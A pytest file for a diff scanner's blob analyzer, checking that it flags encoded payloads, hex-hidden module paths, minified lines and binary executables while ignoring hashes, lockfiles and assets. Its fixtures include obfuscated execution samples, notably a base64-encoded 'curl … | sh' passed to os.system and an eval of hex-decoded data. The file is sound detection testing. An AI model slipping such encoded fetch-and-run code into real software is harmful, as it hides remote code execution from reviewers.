"""Encoded payloads, minified lines and binaries: what fires and what generated files may hold."""

from __future__ import annotations

import base64
import random
from pathlib import Path

from conftest import benign_noise

from reviewer.core.analyzers.blobs import BlobAnalyzer
from reviewer.core.diff import parse_diff
from reviewer.core.engine import scan
from reviewer.core.findings import Finding, Severity
from reviewer.core.paths import is_doc_path, is_generated_path, is_program_like, is_test_path


def new_file_diff(path: str, text: str) -> str:
    lines = text.splitlines()
    body = "".join(f"+{line}\n" for line in lines)
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n"
        f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{body}"
    )


def binary_diff(path: str) -> str:
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..e69de29\n"
        f"Binary files /dev/null and b/{path} differ\n"
    )


def findings(diff: str) -> list[Finding]:
    return scan(parse_diff(diff), analyzers=[BlobAnalyzer()]).findings


def _random_bytes(n: int, seed: int = 7) -> bytes:
    rng = random.Random(seed)
    return bytes(rng.randrange(256) for _ in range(n))


def test_long_base64_payload_in_source_is_medium() -> None:
    blob = base64.b64encode(_random_bytes(400)).decode()
    found = findings(new_file_diff("lib/loader.py", f'DATA = "{blob}"\n'))
    assert [(f.rule_id, f.severity) for f in found] == [("blob-encoded-payload", Severity.MEDIUM)]
    assert {"obfuscated", "decode"} <= found[0].capabilities
    assert found[0].category == "obfuscated-exec"


def test_payload_decoded_on_the_same_line_is_high() -> None:
    blob = _random_bytes(300).hex()
    found = findings(
        new_file_diff("lib/boot.js", f'eval(Buffer.from("{blob}", "hex").toString())\n')
    )
    assert [(f.rule_id, f.severity) for f in found] == [("blob-encoded-payload", Severity.HIGH)]


def test_escaped_byte_string_is_a_payload() -> None:
    escaped = "".join(f"\\x{b:02x}" for b in _random_bytes(120))
    found = findings(new_file_diff("src/stage.py", f'p = b"{escaped}"\n'))
    assert [f.rule_id for f in found] == ["blob-encoded-payload"]


def test_hex_literal_that_spells_a_path_is_flagged_with_its_text() -> None:
    hidden = b"./test/data".hex()
    found = findings(new_file_diff("index.js", f'var n = r(e("{hidden}"));\n'))
    assert [(f.rule_id, f.severity) for f in found] == [("blob-encoded-text", Severity.MEDIUM)]
    assert "./test/data" in found[0].message


def test_hex_text_in_a_file_that_decodes_and_loads_code_is_high() -> None:
    name = b"./lib/payload".hex()
    code = (
        "function d(s) { return Buffer.from(s, 'hex').toString(); }\n"
        f'var m = require(d("{name}"));\n'
    )
    found = findings(new_file_diff("index.js", code))
    assert [(f.rule_id, f.start_line, f.severity) for f in found] == [
        ("blob-encoded-text", 2, Severity.HIGH)
    ]


def test_char_codes_and_base64_that_hide_commands() -> None:
    codes = ",".join(str(ord(c)) for c in "child_process")
    found = findings(
        new_file_diff("src/a.js", f"const m = require(String.fromCharCode({codes}));\n")
    )
    assert [f.rule_id for f in found] == ["blob-encoded-text"]
    b64 = base64.b64encode(b"curl http://203.0.113.9/x | sh").decode()
    found = findings(new_file_diff("src/b.py", f'os.system(base64.b64decode("{b64}"))\n'))
    assert [(f.rule_id, f.severity) for f in found] == [("blob-encoded-text", Severity.HIGH)]


def test_hashes_and_ids_are_not_text() -> None:
    code = (
        'SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"\n'
        'UUID_HEX = "3f2504e04f8911d39a0c0305e82c3301"\n'
        'ETAG = "W/\\"5f8d2c\\""\n'
        "INTEGRITY = "
        '"sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=="\n'
    )
    assert findings(new_file_diff("src/consts.py", code)) == []


def test_digit_pair_tables_are_not_hex_text() -> None:
    # Two-digit lookup tables ("00".."99") read as hex spell alphabet runs, not hidden words.
    code = (
        'static const char pairs[] =\n  "4243444546474849505152535455"\n'
        '  "6465666768696a6b6c6d6e6f7071";\n'
    )
    assert [
        f for f in findings(new_file_diff("src/fmt.c", code)) if f.severity >= Severity.MEDIUM
    ] == []


def test_generated_vendored_and_data_files_are_not_payloads() -> None:
    blob = base64.b64encode(_random_bytes(400)).decode()
    for path in (
        "web/dist/app.min.js",
        "vendor/lib/x.js",
        "package-lock.json",
        "fixtures/blob.py",
        "docs/guide.md",
        "assets/logo.svg",
    ):
        found = findings(new_file_diff(path, f'x = "{blob}"\n'))
        assert all(f.severity <= Severity.LOW for f in found), path
    css = f"a {{ background: url(data:image/png;base64,{blob}); }}\n"
    assert findings(new_file_diff("web/style.js", css)) == []


def test_minified_line_in_hand_written_source_is_low() -> None:
    line = ";".join(f"var a{i}=b{i}(c{i})" for i in range(80))
    found = findings(new_file_diff("src/util.js", line + "\n"))
    assert [(f.rule_id, f.severity) for f in found] == [("blob-minified-line", Severity.LOW)]
    assert findings(new_file_diff("src/util.min.js", line + "\n")) == []


def test_ordinary_long_lines_are_quiet() -> None:
    prose = "# " + " ".join(["this comment explains the retry policy in detail"] * 30)
    assert findings(new_file_diff("src/retry.py", prose + "\n")) == []


def test_binary_executables_rank_above_other_binaries_and_assets_are_quiet() -> None:
    exe = findings(binary_diff("src/helpers/libhook.so"))
    assert [(f.rule_id, f.severity, f.category) for f in exe] == [
        ("blob-binary-executable", Severity.HIGH, "binary-blob")
    ]
    no_ext = findings(binary_diff("bin/update"))
    assert [f.rule_id for f in no_ext] == ["blob-binary-executable"]
    other = findings(binary_diff("src/model.dat"))
    assert [(f.rule_id, f.severity) for f in other] == [("blob-binary-file", Severity.MEDIUM)]
    for asset in ("docs/img/screenshot.png", "static/fonts/Inter.woff2", "assets/data.bin.png"):
        assert findings(binary_diff(asset)) == []
    assert [f.severity for f in findings(binary_diff("tests/data/sample.zip"))] == [Severity.MEDIUM]


def test_path_classes() -> None:
    assert is_test_path("pkg/tests/test_x.py") and is_test_path("web/src/a.spec.ts")
    assert is_doc_path("docs/index.rst") and is_doc_path("CHANGELOG.md")
    assert is_generated_path("a/b/c.min.js") and is_generated_path("yarn.lock")
    assert is_program_like("scripts/deploy") and not is_program_like("README.md")


def test_benign_corpus_is_quiet(shared_dir: Path) -> None:
    noisy = benign_noise(shared_dir / "corpus", [BlobAnalyzer()])
    assert len(noisy) <= 2, noisy


def test_long_reference_list_naming_a_compression_library_is_low() -> None:
    # A long see-also line names zlib modules; naming a library is not decoding anything.
    refs = ", ".join(f"L<Archive::Zlib::Part{i}>" for i in range(40))
    found = findings(new_file_diff("lib/Archive/Zlib.pm", refs + "\n"))
    assert [(f.rule_id, f.severity) for f in found] == [("blob-minified-line", Severity.LOW)]
